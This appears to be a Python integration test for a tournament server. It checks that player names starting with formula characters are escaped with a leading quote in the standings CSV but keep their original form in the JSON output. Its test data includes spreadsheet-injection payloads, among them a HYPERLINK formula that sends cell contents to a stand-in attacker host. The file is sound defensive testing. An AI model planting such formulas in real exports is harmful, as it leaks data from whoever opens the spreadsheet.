"""The standings CSV an organiser opens in a spreadsheet, through a real server at production settings: a player's
name that would start a formula (OWASP's =, +, -, @, tab, CR) arrives as text, with a leading single quote."""

from __future__ import annotations

import csv
import io

import requests

from tests.support.databases import own_db

ORGANISER = "organiser-of-the-standings-csv-test-3e9a17c2"
NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Ada")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
         "Bo", "'Cy", "D=E"]


def test_names_that_would_run_as_formulas_are_written_as_text(own_server):
    headers = {"Authorization": f"Bearer {ORGANISER}"}
    with own_server(own_db("standings_csv"), ORGANISER_TOKENS=ORGANISER) as base:
        tid = requests.post(f"{base}/v1/tournaments", headers=headers, timeout=10, json={
            "game": "jaipur", "format": "round_robin", "table_size": 2}).json()["id"]
        ids = {}
        for name in NAMES:
            answer = requests.post(f"{base}/v1/tournaments/{tid}/players", json={"name": name}, headers=headers,
                                   timeout=10)
            assert answer.status_code == 201, answer.text
            ids[answer.json()["player"]] = name
        assert requests.post(f"{base}/v1/tournaments/{tid}/start", headers=headers, timeout=10).status_code == 200
        answer = requests.get(f"{base}/v1/tournaments/{tid}/standings", headers={"Accept": "text/csv"}, timeout=10)
        as_json = requests.get(f"{base}/v1/tournaments/{tid}/standings", timeout=10).json()
    assert answer.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode(), newline="")))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert {row["player"]: row["name"] for row in rows} == {
        player: "'" + name if name[0] in dangerous else name for player, name in ids.items()}
    assert {row["player"]: row["name"] for row in as_json["standings"]} == ids  # JSON keeps the names as given
